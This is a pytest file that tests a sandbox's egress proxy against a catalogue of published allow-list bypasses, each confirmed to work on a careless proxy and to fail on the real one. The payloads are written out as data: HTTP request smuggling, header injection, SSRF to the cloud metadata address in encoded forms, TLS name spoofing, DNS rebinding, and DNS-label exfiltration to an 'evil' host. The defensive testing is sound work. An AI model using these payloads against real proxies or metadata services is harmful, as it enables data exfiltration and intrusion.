"""Ways past an allow-list that were published of others; each is shown to work against a careless proxy first."""

import ssl
from collections.abc import Awaitable, Callable

import pytest
from support.egress import (
    API,
    EVIL,
    METADATA,
    PUBLIC,
    Careless,
    Inside,
    Log,
    Town,
    Wire,
    inside,
    proxy_of,
    town,
)

from sandbox.driver import Outlet
from sandbox.egress.addresses import is_public
from sandbox.egress.events import Connected, Refused
from sandbox.egress.refusal import Cut
from sandbox.egress.rules import Rule
from sandbox.egress.tls import TlsStream

RULES = frozenset({Rule(API, 80), Rule(API, 443), Rule(API, 9000)})

Attack = Callable[[Inside], Awaitable[None]]


def saying(data: bytes) -> Attack:
    """Everything at once, on one connection."""

    async def attack(sandbox: Inside) -> None:
        wire = sandbox.open()
        wire.send(data)
        wire.end()
        await wire.rest()

    return attack


async def tls_to_another_name(sandbox: Inside) -> None:
    wire = await tunnel(sandbox, f"{API}:443")
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        await TlsStream.client(wire, context, EVIL)
    except Cut:
        return
    wire.end()


async def tunnel(sandbox: Inside, to: str) -> Wire:
    wire = sandbox.open()
    wire.send(f"CONNECT {to} HTTP/1.1\r\n\r\n".encode())
    await wire.until(b"\r\n\r\n")
    return wire


def get(target: str, host: str, more: str = "") -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode("latin-1")


def connect(target: str) -> bytes:
    return f"CONNECT {target} HTTP/1.1\r\n\r\n".encode("latin-1")


def was_elsewhere(place: Town) -> bool:
    return any(where[0] != PUBLIC for where in place.connected)


def was_connected(place: Town) -> bool:
    return bool(place.connected)


def heard(mark: bytes) -> Callable[[Town], bool]:
    return lambda place: mark in place.all_heard


def asked_for_evil(place: Town) -> bool:
    return EVIL in place.named


ATTACKS: dict[str, tuple[Attack, Callable[[Town], bool]]] = {
    "plain HTTP past a filter of CONNECT": (saying(get(f"http://{EVIL}/", EVIL)), was_elsewhere),
    "Host other than the target": (saying(get(f"http://{API}/", EVIL)), heard(EVIL.encode())),
    "two Hosts": (saying(get(f"http://{API}/", API, f"Host: {EVIL}\r\n")), heard(EVIL.encode())),
    "Host with a folded line": (saying(get(f"http://{API}/", f"{API}\r\n {EVIL}")), heard(EVIL.encode())),
    "a second request behind the first": (
        saying(get(f"http://{API}/", API) + get("/second", EVIL)),
        heard(b"/second"),
    ),
    "a second CONNECT behind a request": (
        saying(get(f"http://{API}/", API) + connect(f"{EVIL}:80")),
        heard(b"CONNECT"),
    ),
    "a second request behind two lengths": (
        saying(
            get(f"http://{API}/", API, "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n")
            + b"0\r\n\r\n"
            + get("/second", EVIL)
        ),
        heard(b"/second"),
    ),
    "a second request in a length that differs": (
        saying(get(f"http://{API}/", API, "Content-Length: 0\r\nContent-Length: 99\r\n") + get("/second", EVIL)),
        heard(b"/second"),
    ),
    "a second request behind a chunk": (
        saying(
            get(f"http://{API}/", API, "Transfer-Encoding: chunked\r\n") + b"1\r\nx\r\n0\r\n\r\n" + get("/second", EVIL)
        ),
        heard(b"/second"),
    ),
    "an encoding in disguise": (
        saying(get(f"http://{API}/", API, "Transfer-Encoding: xchunked\r\n") + get("/second", EVIL)),
        heard(b"/second"),
    ),
    "a bare LF in a header": (saying(get(f"http://{API}/", API, f"X: 1\nHost: {EVIL}\r\n")), heard(EVIL.encode())),
    "a bare CR in a header": (saying(get(f"http://{API}/", API, f"X: 1\rHost: {EVIL}\r\n")), heard(EVIL.encode())),
    "a blank before a colon": (saying(get(f"http://{API}/", API, f"Host : {EVIL}\r\n")), heard(EVIL.encode())),
    "NUL in a header": (saying(get(f"http://{API}/", API, f"X: \0{EVIL}\r\n")), heard(EVIL.encode())),
    "credentials for proxies sent on": (
        saying(get(f"http://{API}/", API, "Proxy-Authorization: Basic c2VjcmV0\r\n")),
        heard(b"c2VjcmV0"),
    ),
    "headers that Connection names sent on": (
        saying(get(f"http://{API}/", API, "Connection: x-internal\r\nX-Internal: trusted\r\n")),
        heard(b"trusted"),
    ),
    "an upgrade sent on": (
        saying(get(f"http://{API}/", API, "Connection: upgrade\r\nUpgrade: websocket\r\n")),
        heard(b"websocket"),
    ),
    "TLS to another name": (tls_to_another_name, asked_for_evil),
    "capital letters": (saying(connect("API.example.com:9000")), was_connected),
    "a trailing dot": (saying(connect(f"{API}.:9000")), was_connected),
    "userinfo": (saying(connect(f"{EVIL}@{API}:9000")), was_connected),
    "userinfo in plain HTTP": (saying(get(f"http://{API}@{EVIL}/", API)), was_elsewhere),
    "NUL in a name": (saying(connect(f"{API}\0.{EVIL}:9000")), was_connected),
    "NUL in the target": (saying(get(f"http://{EVIL}\0{API}/", API)), was_elsewhere),
    "a port with zeros": (saying(connect(f"{API}:09000")), was_connected),
    "a port with a sign": (saying(connect(f"{API}:+9000")), was_connected),
    "an address": (saying(connect(f"{METADATA}:80")), was_elsewhere),
    "an address in plain HTTP": (saying(get(f"http://{METADATA}/latest/", METADATA)), was_elsewhere),
    "an address as one number": (saying(connect("2852039166:80")), was_elsewhere),
    "an address in hexadecimal": (saying(connect("0xa9fea9fe:80")), was_elsewhere),
    "an address in octal": (saying(connect("0251.0376.0251.0376:80")), was_elsewhere),
    "an address in two parts": (saying(connect("169.16689662:80")), was_elsewhere),
    "an IPv6 address with an IPv4 one inside": (saying(connect(f"[::ffff:{METADATA}]:80")), was_elsewhere),
    "a line break in the target": (saying(get(f"http://{EVIL}/\r\nX: 1 HTTP/1.1", API)), was_elsewhere),
}


async def succeeds(attack: Attack, succeeded: Callable[[Town], bool], outlet: Callable[[Town], Outlet]) -> bool:
    async with town() as place:
        async with inside(outlet(place)) as sandbox:
            await attack(sandbox)
        return succeeded(place)


@pytest.mark.promise("egress-allow-list")
@pytest.mark.parametrize("name", ATTACKS)
async def test_a_way_past_the_allow_list_is_shut(name: str) -> None:
    attack, succeeded = ATTACKS[name]
    log = Log()
    assert await succeeds(attack, succeeded, lambda place: Careless(place=place, allowed=RULES)), "no attack at all"
    assert not await succeeds(attack, succeeded, lambda place: proxy_of(place, log, *RULES))


@pytest.mark.promise("egress-tls-name")
async def test_what_is_no_tls_does_not_pass_where_tls_is_spoken() -> None:
    async def relay(outlet: Callable[[Town], Outlet]) -> bytes:
        async with town() as place:
            place.ports[PUBLIC, 443] = place.ports[PUBLIC, 9000]  # it listens to anything
            async with inside(outlet(place)) as sandbox:
                wire = await tunnel(sandbox, f"{API}:443")
                wire.send(connect(f"{EVIL}:443"))
                wire.end()
                await wire.rest()
            return place.all_heard

    log = Log()
    assert b"CONNECT evil" in await relay(lambda place: Careless(place=place, allowed=RULES))
    assert await relay(lambda place: proxy_of(place, log, *RULES)) == b""
    assert Refused(target=f"{API}:443", why="no TLS") in log.events


@pytest.mark.promise("egress-tls-name")
@pytest.mark.parametrize("port", [443, 9000])
async def test_tls_in_a_tunnel_names_the_host_that_the_tunnel_was_asked_for(port: int) -> None:
    log = Log()
    async with town() as place:
        place.ports[PUBLIC, port] = place.ports[PUBLIC, 443]
        believes = ssl.create_default_context(cadata=place.authority.certificate)
        async with inside(proxy_of(place, log, *RULES)) as sandbox:
            wire = await tunnel(sandbox, f"{API}:{port}")
            stream = await TlsStream.client(wire, believes, API)
            await stream.write(get("/", API))
            assert b"200 OK" in await stream.read()
            wire.reset()

            with pytest.raises(Cut):
                await TlsStream.client(await tunnel(sandbox, f"{API}:{port}"), believes, EVIL)
    assert place.named == [API]
    assert log.of(Refused) == [Refused(target=f"{API}:{port}", why="TLS to another name")]


@pytest.mark.promise("egress-public-only")
@pytest.mark.parametrize(
    "answer",
    [
        [METADATA],
        ["127.0.0.1"],
        ["10.1.2.3"],
        ["0.0.0.0"],
        ["::1"],
        ["::"],
        ["fe80::1%lo"],
        ["fd00:ec2::254"],
        [f"::ffff:{METADATA}"],
        ["64:ff9b::a9fe:a9fe"],
        ["2002:a9fe:a9fe::"],
    ],
)
async def test_an_allowed_name_that_leads_somewhere_private_is_refused(answer: list[str]) -> None:
    async def connected(admits: Callable[[str], bool]) -> list[tuple[str, int]]:
        async with town() as place:
            place.names[API] = [answer]
            place.ports[answer[0], 80] = place.ports[METADATA, 80]
            async with inside(proxy_of(place, Log(), *RULES, admits=admits)) as sandbox:
                await sandbox.ask(get(f"http://{API}/", API))
            return place.connected

    assert await connected(lambda _address: True) == [(answer[0], 80)]
    assert await connected(is_public) == []


@pytest.mark.promise("egress-public-only")
async def test_of_several_addresses_only_public_ones_are_tried() -> None:
    async with town() as place:
        place.names[API] = [[METADATA, "10.0.0.1", PUBLIC]]
        async with inside(proxy_of(place, Log(), *RULES)) as sandbox:
            assert b"200 OK" in await sandbox.ask(get(f"http://{API}/", API))
    assert place.connected == [(PUBLIC, 80)]


@pytest.mark.promise("egress-resolved-once")
async def test_a_name_that_changes_between_the_check_and_the_connection_gains_nothing() -> None:
    async def connected(outlet: Callable[[Town], Outlet]) -> tuple[list[tuple[str, int]], int]:
        async with town() as place:
            place.names[API] = [[PUBLIC], [METADATA]]
            async with inside(outlet(place)) as sandbox:
                wire = sandbox.open()
                wire.send(get(f"http://{API}/", API))
                wire.end()
                await wire.rest()
            return place.connected, len(place.lookups)

    assert await connected(lambda place: Careless(place=place, allowed=RULES)) == ([(METADATA, 80)], 2)
    assert await connected(lambda place: proxy_of(place, Log(), *RULES)) == ([(PUBLIC, 80)], 1)


@pytest.mark.promise("egress-allow-list")
async def test_a_redirect_is_handed_back_and_followed_by_nobody() -> None:
    redirect = f"HTTP/1.1 302 Found\r\nLocation: http://{EVIL}/\r\nContent-Length: 0\r\n\r\n".encode()
    async with town(answer=redirect) as place, inside(proxy_of(place, Log(), *RULES)) as sandbox:
        assert await sandbox.ask(get(f"http://{API}/", API)) == redirect
        assert place.connected == [(PUBLIC, 80)]


@pytest.mark.promise("egress-bounded")
async def test_a_head_that_is_too_large_or_too_slow_is_refused_and_nothing_is_connected() -> None:
    async with town() as place:
        proxy = proxy_of(place, Log(), *RULES, head_s=0.2)
        async with inside(proxy) as sandbox:
            huge = get(f"http://{API}/", API, f"X: {'x' * (16 << 10)}\r\n")
            assert (await sandbox.ask(huge)).startswith(b"HTTP/1.1 431 ")
            assert (await sandbox.ask(b"GET http://" + b"x" * 40_000)).startswith(b"HTTP/1.1 431 ")
            slow = sandbox.open()
            slow.send(b"GET http://")
            assert (await slow.rest()).startswith(b"HTTP/1.1 408 ")
            silent = await tunnel(sandbox, f"{API}:443")
            await silent.rest()
            assert silent.ended == "reset"
        assert place.all_heard == b""


@pytest.mark.promise("egress-public-only")
async def test_a_name_is_looked_up_only_once_it_is_allowed() -> None:
    """Else names would carry data out, one label at a time."""
    log = Log()
    async with town() as place, inside(proxy_of(place, log, *RULES)) as sandbox:
        for data in (connect("c2VjcmV0.evil.example.com:443"), get("http://c2VjcmV0.evil.example.com/", EVIL)):
            await sandbox.ask(data)
        assert place.lookups == []
    assert log.of(Connected) == []
